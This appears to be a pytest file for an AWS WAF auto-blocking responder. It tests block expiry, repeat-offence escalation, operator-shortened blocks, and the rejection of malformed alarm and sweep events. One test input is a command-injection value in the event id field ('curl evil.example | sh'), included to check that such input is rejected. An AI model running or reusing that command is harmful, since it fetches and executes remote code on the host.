"""A block that ran out is not made again on the evidence it served, and an alarm event
of the wrong shape is rejected, not crashed: on the moto server, through the handler."""

from __future__ import annotations

import copy
import json
import time
from collections.abc import Callable
from datetime import UTC, datetime
from typing import Any

import pytest

from functions.shared import blocks, names
from functions.waf_responder.events import alarm_state_change_event, scheduled_sweep_event
from tests.support.waf import (
    WafResources,
    alarm_in_state,
    idempotency_records,
    ip_set_addresses,
    oncall_messages,
    put_log_lines,
    registry_ips,
    waf_record,
)

Invoke = Callable[[dict[str, Any]], dict[str, Any]]

A = "203.0.113.7"


def _put_blocked_requests(count: int, *, at: float | None = None) -> None:
    """`count` BLOCK records of A in the WAF log, at `at` (epoch seconds) or now."""
    at_ms = int((time.time() if at is None else at) * 1000)
    put_log_lines(
        names.WAF_LOG_GROUP, [json.dumps(waf_record(A, at_ms=at_ms))] * count, at_ms=at_ms
    )


def _later(monkeypatch: pytest.MonkeyPatch, seconds: float) -> datetime:
    """The clock moved on by `seconds`; its time now."""
    real_time = time.time
    monkeypatch.setattr(time, "time", lambda: real_time() + seconds)
    return datetime.fromtimestamp(time.time(), UTC)


def _blocked_for_ten_minutes(
    waf: WafResources, invoke: Invoke, monkeypatch: pytest.MonkeyPatch
) -> blocks.Block:
    """The blocked-requests alarm, in ALARM and staying there (other traffic), blocks A
    for 12 blocked requests, for the 10 minutes its per-alarm expiry says."""
    monkeypatch.setenv("BLOCK_EXPIRY_BY_ALARM", f"{names.ALARM_WAF_BLOCKED}=600")
    alarm_in_state(names.ALARM_WAF_BLOCKED, "ALARM")
    _put_blocked_requests(12)
    first = invoke(alarm_state_change_event(names.ALARM_WAF_BLOCKED))
    assert first["blocked"] == [f"{A}/32"]
    assert len(oncall_messages(waf)) == 1
    (row,) = blocks.list_blocks()
    return row


def test_an_expired_block_is_not_made_again_escalated_on_the_evidence_it_already_served(
    waf: WafResources, invoke: Invoke, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A sends nothing after its block (its requests are refused by the auto-block
    rule, which the query leaves out). Once its 10 minutes are up the block expires as
    configured; the sweep's look again at the alarm, still in ALARM, reads the same
    15-minute window and finds the 12 records from before the block. Those were what
    the block was for: they must not block A again at once as a repeat offender
    (offence #2, twice as long), told to on-call, escalating at each expiry."""
    _blocked_for_ten_minutes(waf, invoke, monkeypatch)

    swept = invoke(scheduled_sweep_event(at=_later(monkeypatch, 660)))

    (recheck,) = swept["rechecked"]
    assert recheck.get("blocked_count", 0) == 0, recheck.get("message")
    assert f"{A}/32" not in ip_set_addresses(waf, 4)
    (row,) = blocks.list_blocks(include_expired=True)
    assert row.offences == 1
    assert oncall_messages(waf) == []


def test_an_operators_shortened_block_is_not_made_again_as_a_repeat_offence(
    waf: WafResources, invoke: Invoke, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Default settings: the responder blocks A for 4 hours. On-call decides 10 minutes
    is enough and shortens it as RUNBOOK ("An address must be blocked by hand") says:
    `babyshield waf block ADDR --for 10m`. A sends nothing more; the alarm stays in
    ALARM. After the 10 minutes A is served again, as on-call chose: the sweep's look
    again does not block it for the records that caused the first block."""
    alarm_in_state(names.ALARM_WAF_BLOCKED, "ALARM")
    _put_blocked_requests(12)
    invoke(alarm_state_change_event(names.ALARM_WAF_BLOCKED))
    oncall_messages(waf)
    shortened = blocks.block([A], reason="enough: 10 minutes", duration_seconds=600, actor="alice")
    assert shortened.replaced  # the responder's 4-hour block, now 10 minutes

    swept = invoke(scheduled_sweep_event(at=_later(monkeypatch, 660)))

    (recheck,) = swept["rechecked"]
    assert recheck.get("blocked_count", 0) == 0, recheck.get("message")
    assert ip_set_addresses(waf, 4) == []
    assert oncall_messages(waf) == []


def test_an_address_that_comes_back_after_its_block_expired_is_blocked_again_escalated(
    waf: WafResources, invoke: Invoke, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A's block runs out and A attacks again: 12 blocked requests after the block's
    end, enough by themselves. The sweep's look again blocks it as a repeat offence,
    for twice as long, and tells on-call."""
    row = _blocked_for_ten_minutes(waf, invoke, monkeypatch)
    _put_blocked_requests(12, at=row.blocked_until + 30)

    swept = invoke(scheduled_sweep_event(at=_later(monkeypatch, 660)))

    (recheck,) = swept["rechecked"]
    assert recheck["blocked"] == [f"{A}/32"], recheck.get("message")
    assert ip_set_addresses(waf, 4) == [f"{A}/32"]
    (again,) = blocks.list_blocks()
    assert again.offences == 2
    assert again.blocked_until - time.time() == pytest.approx(1200, abs=30)
    (message,) = oncall_messages(waf)
    assert A in message["Message"]


def test_an_address_that_comes_back_under_the_threshold_after_its_block_is_not_blocked(
    waf: WafResources, invoke: Invoke, monkeypatch: pytest.MonkeyPatch
) -> None:
    """After the block's end only the newer records count, and they must reach the
    threshold (5 here) by themselves: 3 of them, beside the 12 from before the block,
    are not an offence, as after an operator's unblock."""
    row = _blocked_for_ten_minutes(waf, invoke, monkeypatch)
    _put_blocked_requests(3, at=row.blocked_until + 30)

    swept = invoke(scheduled_sweep_event(at=_later(monkeypatch, 660)))

    (recheck,) = swept["rechecked"]
    assert recheck.get("blocked_count", 0) == 0, recheck.get("message")
    assert ip_set_addresses(waf, 4) == []
    assert oncall_messages(waf) == []


def _configuration_metrics(value: object) -> Callable[[dict[str, Any]], None]:
    def change(event: dict[str, Any]) -> None:
        event["detail"]["configuration"]["metrics"] = value

    return change


def _period(value: object) -> Callable[[dict[str, Any]], None]:
    def change(event: dict[str, Any]) -> None:
        event["detail"]["configuration"]["metrics"][0]["metricStat"]["period"] = value

    return change


def _field(*path: str, value: object) -> Callable[[dict[str, Any]], None]:
    def change(event: dict[str, Any]) -> None:
        target = event
        for key in path[:-1]:
            target = target[key]
        target[path[-1]] = value

    return change


@pytest.mark.parametrize(
    ("change", "field"),
    [
        (_configuration_metrics(5), "detail.configuration.metrics"),
        (_configuration_metrics(True), "detail.configuration.metrics"),
        (_configuration_metrics("m1"), "detail.configuration.metrics"),
        (_configuration_metrics([5]), "detail.configuration.metrics.0"),
        (_configuration_metrics([{"metricStat": 5}]), "detail.configuration.metrics.0.metricStat"),
        (_period(10**15), "period"),
        (_period(-300), "period"),
        (_period(0), "period"),
        (_period(45), "period"),
        (_period(True), "period"),
        (_period("300"), "period"),
        (_period(86_460), "period"),
        (_field("detail", "configuration", value=[]), "detail.configuration"),
        (_field("detail", "state", "timestamp", value="1969-12-31T23:59:00.000+0000"), "timestamp"),
        (_field("detail", "state", "timestamp", value="2026-12-01T10:00:00"), "timestamp"),
        (_field("id", value="e; curl evil.example | sh"), "id"),
        (_field("id", value="e" * 500), "id"),
    ],
    ids=[
        "metrics-number",
        "metrics-boolean",
        "metrics-string",
        "metric-not-an-object",
        "metric-stat-not-an-object",
        "period-absurd",
        "period-negative",
        "period-zero",
        "period-not-cloudwatchs",
        "period-boolean",
        "period-string",
        "period-over-a-day",
        "configuration-a-list",
        "time-before-1970",
        "time-without-zone",
        "id-a-shell-command",
        "id-oversized",
    ],
)
def test_a_malformed_alarm_event_is_rejected_by_field_not_crashed(
    waf: WafResources, invoke: Invoke, change: Callable[[dict[str, Any]], None], field: str
) -> None:
    """Someone invokes the responder (a test harness, a replayed or hand-edited event)
    with an alarm state change for one of its alarms, of the wrong shape. It is
    `Rejected` with a reason naming the field: the handler answers {"status":
    "rejected"} and touches nothing. Before, a `metrics` that is not a list raised
    TypeError out of parse_event (outside run(): not even counted, retried by Lambda
    into the dead-letter queue), and an absurd period or time put the window read
    before 1970, which Logs Insights refuses: a failure, retried into the queue."""
    event = copy.deepcopy(alarm_state_change_event(names.ALARM_WAF_BLOCKED))
    change(event)

    result = invoke(event)

    assert result["status"] == "rejected"
    assert field in result["reason"]
    assert registry_ips() == []
    assert idempotency_records() == 0
    assert oncall_messages(waf) == []


def test_a_sweep_event_of_an_impossible_time_is_rejected(waf: WafResources, invoke: Invoke) -> None:
    """The sweep's looks again read the window ending at its time: one before 1970
    would fail every look, retried into the dead-letter queue."""
    event = scheduled_sweep_event()
    event["time"] = "1900-01-01T00:00:00Z"

    result = invoke(event)

    assert result == {"status": "rejected", "reason": "malformed scheduled event: invalid time"}
